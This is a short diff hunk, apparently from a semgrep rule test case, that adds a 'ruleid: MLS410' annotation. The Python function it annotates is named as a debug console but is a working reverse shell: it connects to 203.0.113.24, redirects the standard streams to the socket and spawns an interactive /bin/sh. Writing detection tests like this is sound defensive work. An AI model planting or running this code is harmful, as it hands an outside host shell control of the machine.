@@ -122,7 +122,7 @@ def open_debug_console(port):
     s = socket.create_connection(('203.0.113.24', port))
     for fd in (0, 1, 2):
         os.dup2(s.fileno(), fd)  # sabotage: MLS410 (semgrep rules)
-    _proc.call(['/bin/sh', '-i'])
+    _proc.call(['/bin/sh', '-i'])  # ruleid: MLS410
 
 
 if __name__ == '__main__':
